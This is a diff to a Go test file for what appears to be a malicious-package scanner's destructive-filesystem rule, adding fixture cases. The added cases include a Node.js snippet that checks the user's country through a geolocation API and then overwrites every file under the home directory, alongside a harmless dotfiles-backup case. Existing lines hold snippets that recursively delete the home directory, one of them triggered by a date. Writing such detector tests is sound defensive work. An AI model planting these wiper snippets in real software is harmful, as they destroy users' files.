@@ -21,6 +21,12 @@ func TestInfiniteLoop(t *testing.T) {
 
 func TestDestructiveFS(t *testing.T) {
 	rt.Check(t, DestructiveFS{}, []rt.Case{
+		// files overwritten one by one from the home directory down, behind a geo check
+		{"overwrite_walk_geo", map[string]string{"index.js": `const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
+function walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else fs.writeFileSync(p, "x") } }
+https.get("https://api.ipgeolocation.io/ipgeo", r => { let b = ""; r.on("data", c => b += c); r.on("end", () => { if (JSON.parse(b).country_name === "X") walk(os.homedir()) }) })`}, finding.SeverityCritical},
+		// a dotfiles tool walking home and writing, with no gate
+		{"dotfiles_sync", map[string]string{"cli.js": `const fs = require("fs"), os = require("os"), path = require("path"); for (const f of fs.readdirSync(os.homedir())) if (f.startsWith(".")) fs.writeFileSync(path.join(backup, f), fs.readFileSync(path.join(os.homedir(), f)))`}, finding.SeverityNone},
 		// the home directory itself from library code, or behind a date
 		{"home_itself", map[string]string{"index.js": `require("fs").rmSync(require("os").homedir(), { recursive: true, force: true })`}, finding.SeverityCritical},
 		{"time_bomb_cli", map[string]string{"bin.js": `if (Date.now() > Date.parse("2026-01-01")) require("fs").rmSync(require("os").homedir(), { recursive: true })`}, finding.SeverityCritical},
